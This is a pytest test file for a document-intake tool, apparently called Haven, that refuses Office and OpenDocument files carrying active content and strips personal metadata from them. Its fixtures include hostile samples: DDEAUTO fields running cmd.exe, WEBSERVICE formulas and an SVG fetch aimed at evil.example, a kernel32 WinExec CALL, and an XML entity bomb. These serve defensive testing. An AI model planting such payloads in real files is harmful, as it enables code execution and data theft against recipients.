"""Office and OpenDocument files: active content the first version stored, and hidden data it kept."""
from __future__ import annotations

import io
import struct
import zipfile

import pytest
from PIL import Image

from evidence.embedded_images import embedded_image_transform
from tests.evidence import corpus
from tests.evidence.corpus import intake, odt, ooxml, refusal

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REFUSED = "which Haven refuses for safety"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def document(paragraphs: str) -> str:
    return f"<w:document {W}><w:body>{paragraphs}</w:body></w:document>"


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A .rels part: (type, target, mode) each; mode "" for an internal part."""
    body = "".join(
        f'<Relationship Id="rId{number}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for number, (kind, target, mode) in enumerate(relationships, start=10)
    )
    return (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{body}</Relationships>").encode()


def entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# --- Excel 4.0 macros, DDE and calling formulas -------------------------------------------------------


def test_excel_4_macro_sheet_is_refused():
    data = ooxml("xlsx", extra=[
        ("xl/_rels/workbook.xml.rels", rels(("xlMacrosheet", "macrosheets/sheet1.xml", ""))),
        ("xl/macrosheets/sheet1.xml", b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'),
    ])
    message = refusal(data, "rota.xlsx")
    assert message.startswith("This document contains an Excel 4.0 macro sheet, which Haven refuses for safety")
    assert "Save it as a document without macros" in message


def test_macro_sheet_declared_only_by_its_relationship_is_refused():
    data = ooxml("xlsx", extra=[
        ("xl/_rels/workbook.xml.rels", rels(("xlIntlMacrosheet", "worksheets/sheet2.xml", ""))),
        ("xl/worksheets/sheet2.xml", f'<worksheet xmlns="{SHEET_NS}"/>'.encode()),
    ])
    assert "an Excel 4.0 macro sheet" in refusal(data)


def test_auto_open_name_is_refused():
    body = (f'<workbook xmlns="{SHEET_NS}"><sheets/><definedNames>'
            '<definedName name="_xlnm.Auto_Open" hidden="1">Sheet2!$A$1</definedName></definedNames></workbook>')
    assert "an Excel 4.0 macro (a name that runs on opening)" in refusal(ooxml("xlsx", body=body))


def sheet_with(formula_xml: str) -> bytes:
    sheet = (f'<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1"><c r="A1">{formula_xml}</c></row></sheetData>'
             "</worksheet>")
    return ooxml("xlsx", extra=[("xl/worksheets/sheet1.xml", sheet.encode())])


@pytest.mark.parametrize(
    ("formula", "found"),
    [
        ("<f>WEBSERVICE(\"https://evil.example/?\"&amp;B1)</f>", "(WEBSERVICE)"),
        ("<f>_xlfn.WEBSERVICE(\"https://evil.example\")</f>", "(WEBSERVICE)"),
        ("<f>_xlfn.FILTERXML(B1,\"//a\")</f>", "(FILTERXML)"),
        ("<f>CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</f>", "(CALL)"),
        ("<f>_xlfn.IMAGE(\"https://tracker.example/pixel.png\")</f>", "(IMAGE)"),
        ("<f>cmd|' /C calc'!A0</f>", "a DDE formula"),
        ("<f>SUM(1)+MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f>", "a DDE formula"),
    ],
)
def test_formulas_that_call_out_are_refused(formula, found):
    message = refusal(sheet_with(formula), "budget.xlsx")
    assert found in message and REFUSED in message
    assert "Replace the formula with its value" in message


def test_conditional_formatting_formula_that_calls_out_is_refused():
    sheet = (f'<worksheet xmlns="{SHEET_NS}"><sheetData/><conditionalFormatting sqref="A1">'
             '<cfRule type="expression" priority="1"><formula>LEN(WEBSERVICE("https://evil.example"))&gt;0</formula>'
             "</cfRule></conditionalFormatting></worksheet>")
    assert "(WEBSERVICE)" in refusal(ooxml("xlsx", extra=[("xl/worksheets/sheet1.xml", sheet.encode())]))


def test_ordinary_formulas_are_accepted():
    result = intake(sheet_with('<f>IF(SUM(B1:B9)&gt;3,"a|b","WEBSERVICE(x)")</f><v>0</v>'), "budget.xlsx")
    assert result.mime_type.endswith("spreadsheetml.sheet")


# --- Word fields -----------------------------------------------------------------------------------------


def complex_field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


@pytest.mark.parametrize(
    ("paragraphs", "found"),
    [
        ('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>',
         "a DDE field"),
        (complex_field(" DD", "EAU", 'TO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), "a DDE field"),
        (complex_field(' dde "excel" "sheet1!r1c1" '), "a DDE field"),
        (complex_field(' INCLUDEPICTURE "https://tracker.example/p.png" \\d '), "a field that loads a picture"),
        (complex_field(' INCLUDETEXT "\\\\\\\\files.example\\\\share\\\\x.docx" '), "a field that pulls in text"),
        (complex_field(' LINK Excel.Sheet.12 "C:\\\\data.xlsx" "Sheet1!R1C1" '), "a field linked to another file"),
    ],
)
def test_fields_that_run_or_fetch_are_refused(paragraphs, found):
    message = refusal(ooxml("docx", body=document(paragraphs)), "policy.docx")
    assert message.startswith(f"This document contains {found}")
    assert "Delete the field (or turn it into plain text)" in message


def test_field_whose_command_comes_from_a_nested_field_is_refused():
    nested = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText>AUTO cmd.exe "/k calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    assert "a field whose command is built by another field" in refusal(ooxml("docx", body=document(nested)))


def test_dde_field_in_a_header_is_refused():
    header = f'<w:hdr {W}><w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"/></w:p></w:hdr>'
    assert "a DDE field" in refusal(ooxml("docx", extra=[("word/header1.xml", header.encode())]))


def test_ordinary_fields_are_accepted():
    body = document(complex_field(" PAGE ") + complex_field(' HYPERLINK "https://www.example.org/help" '))
    assert intake(ooxml("docx", body=body)).kind == "office"


# --- links, templates, objects, programs --------------------------------------------------------------


@pytest.mark.parametrize(
    "target", ["https://evil.example/template.dotm", "\\\\files.example\\share\\t.dotm", "file://files.example/t.dotm"]
)
def test_remote_attached_template_is_refused(target):
    data = ooxml("docx", extra=[("word/_rels/settings.xml.rels", rels(("attachedTemplate", target, "External")))])
    assert "a link to a template on another computer or web site (attached template)" in refusal(data)


def test_local_attached_template_is_kept_without_the_authors_path():
    target = "file:///C:\\Users\\jane.caseworker\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"
    data = ooxml("docx", extra=[("word/_rels/settings.xml.rels", rels(("attachedTemplate", target, "External")))])
    stored = entries(intake(data).content)["word/_rels/settings.xml.rels"]
    assert b"jane.caseworker" not in stored and b'Target="Normal.dotm"' in stored


@pytest.mark.parametrize(
    ("relationship", "found"),
    [
        (("image", "https://tracker.example/pixel.png", "External"), "a picture loaded from another computer"),
        (("image", "\\\\files.example\\share\\p.png", "External"), "a picture loaded from another computer"),
        (("oleObject", "file:///C:/data.xlsx", "External"), "an embedded or linked object (OLE)"),
        (("frame", "https://evil.example/frame.html", "External"), "a frame loaded from another address"),
        (("externalLinkPath", "\\\\files.example\\budget.xlsx", "External"), "a link to another workbook"),
        (("aFChunk", "/word/afchunk.mht", ""), "an imported web page or document"),
        (("hyperlink", "file:///C:/Windows/System32/calc.exe", "External"), "a link to a file on another computer"),
        (("hyperlink", "\\\\files.example\\share", "External"), "a link to a file on another computer"),
        (("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", ""), "an embedded file or document"),
    ],
)
def test_links_that_load_or_reach_other_computers_are_refused(relationship, found):
    data = ooxml("docx", extra=[("word/_rels/document.xml.rels", rels(relationship))])
    assert found in refusal(data, "plan.docx")


def test_web_links_are_accepted():
    data = ooxml("docx", extra=[("word/_rels/document.xml.rels",
                                 rels(("hyperlink", "https://www.legislation.gov.uk/", "External")))])
    assert intake(data).kind == "office"


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        ("word/embeddings/oleObject1.bin", OLE + bytes(100), "an embedded or linked object"),
        ("word/media/image9.emf", OLE + bytes(100), "an embedded or linked object (OLE)"),
        ("word/media/payload.exe", b"MZ\x90\x00" + bytes(100), "a program or script file"),
        ("word/media/image1.png", b"MZ\x90\x00" + bytes(100), "a program or script file"),
        ("customXml/run.ps1", b"Start-Process calc", "a program or script file"),
        ("word/media/clip.mp4", b"\x00\x00\x00\x18ftypmp42" + bytes(40), "a video or sound file"),
    ],
)
def test_objects_programs_and_media_inside_are_refused(name, content, found):
    assert found in refusal(ooxml("docx", extra=[(name, content)]))


def test_powerpoint_action_that_starts_a_program_is_refused():
    slide = ('<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
             'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
             f'xmlns:r="{REL}"><a:hlinkClick r:id="" action="ppaction://program?cmd.exe"/></p:sld>')
    data = ooxml("pptx", extra=[("ppt/slides/slide1.xml", slide.encode())])
    assert "runs a macro, a script or a program" in refusal(data)


def test_svg_with_script_is_refused():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example")</script></svg>'
    assert "a drawing (SVG) with a script" in refusal(ooxml("docx", extra=[("word/media/image1.svg", svg)]))


def test_metafile_wrapping_a_photo_is_refused():
    emf = b"\x01\x00\x00\x00" + bytes(36) + b" EMF" + bytes(40) + corpus.jpeg_with_everything()
    data = ooxml("docx", extra=[("word/media/image2.emf", emf)])
    assert "a photo wrapped in a Windows drawing (EMF/WMF)" in refusal(data)


def _emf(*records: tuple[int, bytes]) -> bytes:
    header = struct.pack("<II", 1, 88) + bytes(32) + b" EMF" + bytes(44)
    body = b"".join(struct.pack("<II", kind, 8 + len(payload)) + payload for kind, payload in records)
    return header + body + struct.pack("<II", 14, 20) + bytes(12)


def _wmf(*records: tuple[int, bytes]) -> bytes:
    header = struct.pack("<HHHIHIH", 1, 9, 0x0300, 0, 0, 0, 0)  # a standard header of 9 words
    body = b"".join(struct.pack("<IH", 3 + len(payload) // 2, function) + payload for function, payload in records)
    return header + body + struct.pack("<IH", 3, 0)


BITMAP_PIXELS = bytes(range(256)) * 4  # stands for a bitmap's pixels: a face the privacy scan would never see


@pytest.mark.parametrize("metafile", [
    _emf((81, BITMAP_PIXELS)),  # EMR_STRETCHDIBITS
    _emf((54, bytes(8)), (76, BITMAP_PIXELS)),  # a line, then EMR_BITBLT
    _wmf((0x0F43, BITMAP_PIXELS)),  # META_STRETCHDIB
    b"\xd7\xcd\xc6\x9a" + bytes(18) + _wmf((0x0B41, BITMAP_PIXELS)),  # placeable WMF, META_DIBSTRETCHBLT
], ids=["emf-stretchdibits", "emf-bitblt", "wmf-stretchdib", "placeable-wmf-dibstretchblt"])
def test_a_metafile_that_paints_bitmap_pixels_is_refused(metafile):
    data = ooxml("docx", extra=[("word/media/image3.emf", metafile)])
    assert "a photo wrapped in a Windows drawing (EMF/WMF)" in refusal(data)


@pytest.mark.parametrize("metafile", [_emf((54, bytes(8)), (54, bytes(8))), _wmf((0x0213, bytes(4)))],
                         ids=["emf-lines", "wmf-lines"])
def test_a_metafile_of_lines_only_is_accepted(metafile):
    result = intake(ooxml("docx", extra=[("word/media/image3.emf", metafile)]), "plan.docx")
    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
        assert package.read("word/media/image3.emf") == metafile


def test_xml_with_a_dtd_inside_a_part_is_refused():
    bomb = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
            b"<w:document>&b;</w:document>")
    assert "not well-formed XML or uses XML tricks" in refusal(ooxml("docx", body=bomb.decode()))


# --- OpenDocument -----------------------------------------------------------------------------------------

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"')


def odt_content(body: str, before_body: str = "") -> bytes:
    return (f"<office:document-content {ODF_NS}>{before_body}<office:body><office:text>{body}</office:text>"
            "</office:body></office:document-content>").encode()


def odt_with(content: bytes, extra=()) -> bytes:
    data = odt(extra=[("content2.xml", b"<x/>"), *extra])
    parts = entries(data)
    parts["content.xml"] = content
    parts.pop("content2.xml")
    stored = zipfile.ZipInfo("mimetype")
    return corpus.zip_bytes([(stored, parts.pop("mimetype")), *parts.items()])


def test_odt_event_listener_calling_a_macro_is_refused():
    listeners = ('<office:event-listeners><script:event-listener script:language="ooo:script" '
                 'script:event-name="dom:load" script:macro-name="Standard.Module1.Main"/></office:event-listeners>')
    content = odt_content(
        f'<text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/>{listeners}</draw:frame></text:p>'
    )
    assert "This document contains an event handler that runs a macro or script" in refusal(odt_with(content))


def test_odt_embedded_basic_script_element_is_refused():
    scripts = ('<office:scripts><office:script script:language="ooo:Basic">'
               "<text:p>Shell(\"calc\")</text:p></office:script></office:scripts>")
    message = refusal(odt_with(odt_content("<text:p>Hi</text:p>", scripts)))
    assert message.startswith("This document contains scripts or macros, which Haven refuses for safety")


def test_odt_with_empty_scripts_element_as_libreoffice_writes_it_is_accepted():
    data = odt_with(odt_content('<text:p>See <text:a xlink:href="https://www.example.org">the law</text:a></text:p>',
                                "<office:scripts/>"))
    assert intake(data, "minutes.odt").mime_type == "application/vnd.oasis.opendocument.text"


@pytest.mark.parametrize(
    ("body", "found"),
    [
        ('<text:p><draw:frame><draw:image xlink:href="https://tracker.example/p.png"/></draw:frame></text:p>',
         "a picture or object loaded from another address"),
        ('<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>', "(OLE)"),
        ('<text:section text:name="s"><text:section-source xlink:href="file:///C:/x.odt"/></text:section>',
         "a section linked to another file"),
        ('<text:p><text:a xlink:href="file:///C:/Windows/System32/calc.exe">open</text:a></text:p>',
         "a link to a file on another computer"),
        ('<text:p><text:execute-macro text:name="Main">run</text:execute-macro></text:p>', "a field that runs a macro"),
    ],
)
def test_odt_content_that_runs_or_fetches_is_refused(body, found):
    assert found in refusal(odt_with(odt_content(body)))


# --- pictures inside documents -------------------------------------------------------------------------

SECRETS = (corpus.CAMERA_MAKE, corpus.XMP_SECRET, corpus.COMMENT_SECRET, corpus.IPTC_SECRET)


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx", "odt"])
def test_photo_inside_a_document_loses_its_gps_and_camera_data(kind):
    photo = corpus.jpeg_with_everything()
    name = {"docx": "word/media/image1.jpeg", "xlsx": "xl/media/image1.jpeg", "pptx": "ppt/media/image1.jpeg",
            "odt": "Pictures/10000000.jpg"}[kind]
    data = odt(extra=[(name, photo)]) if kind == "odt" else ooxml(kind, extra=[(name, photo)])
    stored = entries(intake(data, f"premises.{kind}").content)
    cleaned = stored[name]
    assert [secret for secret in SECRETS if secret.encode() in cleaned] == []
    assert b"Exif" not in cleaned and b"8BIM" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as picture:
        assert picture.format == "JPEG" and picture.size == (40, 30) and not picture.getexif()
        assert picture.convert("RGB").getpixel((3, 3))[0] > 200  # the pixels as they were (no turning)
    assert stored.keys() == entries(data).keys()
    assert zipfile.ZipFile(io.BytesIO(intake(data).content)).testzip() is None


def test_document_thumbnail_and_png_pictures_are_cleaned_too():
    png = corpus.png_with_text_chunks()
    erased = Image.new("RGBA", (8, 8), (250, 240, 230, 0))
    out = io.BytesIO()
    erased.save(out, format="PNG")
    data = ooxml("docx", extra=[
        ("word/media/image1.png", png),
        ("docProps/thumbnail.jpeg", corpus.jpeg_with_everything()),
        ("word/media/image2.png", out.getvalue()),
    ])
    stored = entries(intake(data).content)
    assert all(secret.encode() not in stored["word/media/image1.png"] for secret in corpus.PNG_TEXT_SECRETS)
    assert corpus.CAMERA_MAKE.encode() not in stored["docProps/thumbnail.jpeg"]
    assert Image.open(io.BytesIO(stored["word/media/image2.png"])).getpixel((2, 2)) == (0, 0, 0, 0)


def test_every_picture_of_a_document_passes_through_the_embedded_image_hook():
    seen = []

    def blacken(picture, where):
        seen.append(where)
        return Image.new(picture.mode, picture.size)

    data = ooxml("pptx", extra=[("ppt/media/image1.jpeg", corpus.jpeg_with_everything()),
                                ("ppt/media/image2.png", corpus.png_with_text_chunks())])
    with embedded_image_transform(blacken):
        stored = entries(intake(data).content)
    assert sorted(seen) == ["ppt/media/image1.jpeg", "ppt/media/image2.png"]
    assert Image.open(io.BytesIO(stored["ppt/media/image1.jpeg"])).convert("RGB").getpixel((3, 3)) == (0, 0, 0)


def test_picture_that_cannot_be_read_is_refused_with_advice():
    data = ooxml("docx", extra=[("word/media/image1.jpeg", b"\xff\xd8\xff\xe0 not really a jpeg")])
    message = refusal(data)
    assert message.startswith("This document holds a picture Haven cannot read to remove its hidden data")
    assert "save the document as PDF" in message


# --- personal document properties -----------------------------------------------------------------------

CORE = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
    "<dc:title>Escape plan</dc:title><dc:creator>Jane Caseworker</dc:creator>"
    "<cp:lastModifiedBy>Sam Keyworker</cp:lastModifiedBy>"
    '<dcterms:created xsi:type="dcterms:W3CDTF">2026-01-02T10:00:00Z</dcterms:created></cp:coreProperties>'
)
APP = (
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
    "<Template>C:\\Users\\jane\\Normal.dotm</Template><Company>Harbour Refuge, 27 Harbour Lane</Company>"
    "<Manager>Sam Keyworker</Manager><Pages>1</Pages></Properties>"
)
CUSTOM = (
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
    'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="CaseOwner">'
    "<vt:lpwstr>Jane Caseworker</vt:lpwstr></property></Properties>"
)


def test_personal_document_properties_are_removed():
    data = ooxml("docx", extra=[("docProps/core.xml", CORE.encode()), ("docProps/app.xml", APP.encode()),
                                ("docProps/custom.xml", CUSTOM.encode())])
    stored = entries(intake(data, "plan.docx").content)
    everything = b"".join(stored.values())
    for secret in (b"Jane Caseworker", b"Sam Keyworker", b"Harbour Lane", b"jane"):
        assert secret not in everything
    assert b"Escape plan" in stored["docProps/core.xml"] and b"2026-01-02T10:00:00Z" in stored["docProps/core.xml"]
    assert b'xsi:type="dcterms:W3CDTF"' in stored["docProps/core.xml"]  # the prefix the value names still exists
    assert b"<Pages>1</Pages>" in stored["docProps/app.xml"].replace(b"ns0:", b"")


def test_odt_meta_authors_are_removed():
    meta = (f'<office:document-meta {ODF_NS}><office:meta><dc:title>Minutes</dc:title>'
            "<meta:initial-creator>Jane Caseworker</meta:initial-creator><dc:creator>Sam Keyworker</dc:creator>"
            '<meta:template xlink:href="file:///home/jane/Templates/minutes.ott" xlink:title="minutes"/>'
            '<meta:user-defined meta:name="Owner">Jane Caseworker</meta:user-defined>'
            "</office:meta></office:document-meta>")
    stored = entries(intake(odt(extra=[("meta.xml", meta.encode())]), "minutes.odt").content)
    assert b"Jane" not in stored["meta.xml"] and b"Sam" not in stored["meta.xml"] and b"jane" not in stored["meta.xml"]
    assert b"Minutes" in stored["meta.xml"]
    assert list(stored)[0] == "mimetype"
    info = zipfile.ZipFile(io.BytesIO(intake(odt(extra=[("meta.xml", meta.encode())])).content)).infolist()[0]
    assert info.compress_type == zipfile.ZIP_STORED


def test_a_part_that_is_xml_under_another_name_is_checked_too():
    """Office finds the main part through its relationship, whatever its name; DDE there is refused."""
    body = document('<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"/></w:p>')
    data = ooxml("docx", extra=[("word/main.dat", body.encode())])
    assert "a DDE field" in refusal(data)


def test_properties_in_a_part_named_in_other_case_are_removed():
    stored = entries(intake(ooxml("docx", extra=[("DOCPROPS/CORE.XML", CORE.encode())])).content)
    assert b"Jane Caseworker" not in stored["DOCPROPS/CORE.XML"]


def test_names_of_comment_and_change_authors_are_removed():
    body = document(
        '<w:p><w:ins w:id="1" w:author="Jane Caseworker" w:date="2026-01-02T10:00:00Z"><w:r><w:t>Exit B</w:t></w:r>'
        "</w:ins></w:p>"
    )
    comments = (f'<w:comments {W}><w:comment w:id="0" w:author="Sam Keyworker" w:initials="SK">'
                "<w:p><w:r><w:t>Check the lock</w:t></w:r></w:p></w:comment></w:comments>")
    people = ('<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
              '<w15:person w15:author="Sam Keyworker"><w15:presenceInfo w15:providerId="AD" '
              'w15:userId="S::sam.keyworker@refuge.example"/></w15:person></w15:people>')
    sheet_comments = ('<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><authors>'
                      "<author>Jane Caseworker</author></authors><commentList/></comments>")
    parts = [("word/comments.xml", comments.encode()), ("word/people.xml", people.encode())]
    docx = ooxml("docx", body=body, extra=parts)
    stored = entries(intake(docx).content)
    everything = b"".join(stored.values())
    assert b"Jane" not in everything and b"Sam" not in everything and b"refuge.example" not in everything
    assert b"Exit B" in stored["word/document.xml"] and b"Check the lock" in stored["word/comments.xml"]
    xlsx = entries(intake(ooxml("xlsx", extra=[("xl/comments1.xml", sheet_comments.encode())])).content)
    assert b"Jane" not in xlsx["xl/comments1.xml"]


def test_loose_vml_as_office_writes_it_is_checked_without_being_refused_as_damaged():
    loose = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><br></v:shape></xml>'
    assert intake(ooxml("xlsx", extra=[("xl/drawings/vmlDrawing1.vml", loose)])).kind == "office"
    hostile = loose.replace(b"<br>", b'<br><v:imagedata o:href="\\\\files.example\\share\\p.png"/>')
    assert "a drawing (VML)" in refusal(ooxml("xlsx", extra=[("xl/drawings/vmlDrawing1.vml", hostile)]))


def test_office_add_in_is_refused():
    data = ooxml("docx", extra=[("word/webextensions/webextension1.xml", b"<we:webextension xmlns:we='x'/>")])
    assert "an Office add-in (web extension)" in refusal(data)


@pytest.mark.parametrize(
    ("body", "found"),
    [
        ('<text:p><form:form xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
         'xlink:href="https://evil.example/collect" form:method="post"/></text:p>', "a form that sends"),
    ],
)
def test_odt_form_that_sends_is_refused(body, found):
    assert found in refusal(odt_with(odt_content(body)))


def test_odt_meta_that_reloads_from_an_address_is_refused():
    meta = (f'<office:document-meta {ODF_NS}><office:meta>'
            '<meta:auto-reload xlink:href="https://tracker.example/next.odt" meta:delay="PT0S"/>'
            "</office:meta></office:document-meta>")
    assert "loaded from another address" in refusal(odt(extra=[("meta.xml", meta.encode())]))


def test_word_document_variables_are_removed():
    settings = (f'<w:settings {W}><w:docVars><w:docVar w:name="CaseOwner" w:val="Jane Caseworker"/></w:docVars>'
                '<w:defaultTabStop w:val="720"/></w:settings>')
    stored = entries(intake(ooxml("docx", extra=[("word/settings.xml", settings.encode())])).content)
    assert b"Jane" not in stored["word/settings.xml"] and b"defaultTabStop" in stored["word/settings.xml"]


def test_sharepoint_properties_kept_in_custom_xml_parts_are_removed():
    """Word keeps a library's document properties (people, addresses) in customXml/item*.xml, not docProps."""
    sharepoint = (
        '<p:properties xmlns:p="http://schemas.microsoft.com/office/2006/metadata/properties">'
        "<documentManagement><CaseWorker><UserInfo><DisplayName>Jane Caseworker</DisplayName>"
        "<AccountId>jane.caseworker@refuge.example</AccountId></UserInfo></CaseWorker>"
        "<SiteAddress>27 Harbour Lane</SiteAddress></documentManagement></p:properties>"
    )
    item_props = ('<ds:datastoreItem ds:itemID="{6D3A1F2B-0000-4000-8000-000000000001}" '
                  'xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>')
    bare_text = "<Notes>Keyworker Sam at 27 Harbour Lane</Notes>"
    data = ooxml("docx", extra=[("customXml/item1.xml", sharepoint.encode()),
                                ("customXml/itemProps1.xml", item_props.encode()),
                                ("customXml/Item2.xml", bare_text.encode())])
    stored = entries(intake(data, "plan.docx").content)
    everything = b"".join(stored.values())
    for secret in (b"Jane Caseworker", b"refuge.example", b"Harbour Lane", b"Sam"):
        assert secret not in everything
    assert b"properties" in stored["customXml/item1.xml"]  # the part stays, so the package still opens
    assert b"6D3A1F2B" in stored["customXml/itemProps1.xml"]


def test_folder_excel_saved_the_workbook_in_is_removed():
    """Excel writes the folder it saved to (x15ac:absPath, with the Windows user name) into every workbook."""
    workbook = (
        f'<workbook xmlns="{SHEET_NS}" xmlns:r="{REL}" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x15ac" '
        'xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac">'
        '<mc:AlternateContent><mc:Choice Requires="x15">'
        "<x15ac:absPath url='C:\\Users\\Jane Caseworker\\Refuge at 27 Harbour Lane\\'/>"
        '</mc:Choice></mc:AlternateContent><sheets><sheet name="Rota" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    stored = entries(intake(ooxml("xlsx", body=workbook), "rota.xlsx").content)
    everything = b"".join(stored.values())
    assert b"Jane" not in everything and b"Harbour Lane" not in everything
    assert b'<sheet name="Rota"' in stored["xl/workbook.xml"] and b'mc:Ignorable="x15ac"' in stored["xl/workbook.xml"]


def test_user_names_excel_keeps_for_sharing_and_tracked_changes_are_removed():
    workbook = (f'<workbook xmlns="{SHEET_NS}" xmlns:r="{REL}"><fileSharing readOnlyRecommended="1" '
                'userName="Jane Caseworker"/><sheets><sheet name="Rota" sheetId="1" r:id="rId1"/></sheets></workbook>')
    headers = (f'<headers xmlns="{SHEET_NS}" xmlns:r="{REL}" guid="{{0}}"><header guid="{{1}}" '
               'dateTime="2026-01-01T00:00:00" userName="Sam Keyworker" r:id="rId1"/></headers>')
    users = (f'<users xmlns="{SHEET_NS}" count="1"><userInfo guid="{{2}}" name="Sam Keyworker" id="1" '
             'dateTime="2026-01-01T00:00:00"/></users>')
    data = ooxml("xlsx", body=workbook, extra=[("xl/revisions/revisionHeaders.xml", headers.encode()),
                                               ("xl/revisions/userNames.xml", users.encode())])
    stored = entries(intake(data, "rota.xlsx").content)
    everything = b"".join(stored.values())
    assert b"Jane" not in everything and b"Sam" not in everything
    assert b'readOnlyRecommended="1"' in stored["xl/workbook.xml"] and b'<sheet name="Rota"' in stored["xl/workbook.xml"]
